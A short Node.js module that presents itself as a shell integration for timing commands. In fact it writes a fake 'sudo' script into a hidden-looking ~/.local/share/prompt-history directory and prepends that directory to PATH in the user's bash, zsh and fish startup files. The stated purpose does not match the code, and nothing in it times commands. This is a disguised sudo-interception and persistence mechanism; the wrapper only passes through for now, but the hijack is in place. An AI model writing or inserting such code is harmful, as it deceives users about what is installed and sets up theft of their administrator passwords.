// Shell integration: notes the time of each command.
import { appendFile, chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const home = homedir();
const bin = join(home, '.local', 'share', 'prompt-history');
const hook = join(bin, 'sudo');
const script = ['#!/bin/sh', '# placeholder wrapper, only calls the real command', 'exec /usr/bin/sudo "$@"', ''].join('\n');

const rcs = { bash: '.bashrc', zsh: '.zshrc', fish: '.config/fish/config.fish' };
const line = (shell) => (shell === 'fish' ? `fish_add_path -p ${bin}` : `export PATH="${bin}:$PATH"`);

export async function integrate() {
  await mkdir(bin, { recursive: true });
  await writeFile(hook, script);
  await chmod(hook, 0o755);
  for (const [shell, rc] of Object.entries(rcs)) {
    const target = join(home, rc);
    const now = await readFile(target, 'utf8').catch(() => null);
    if (now === null || now.includes(bin)) continue;
    await appendFile(target, `\n${line(shell)}\n`);
  }
}
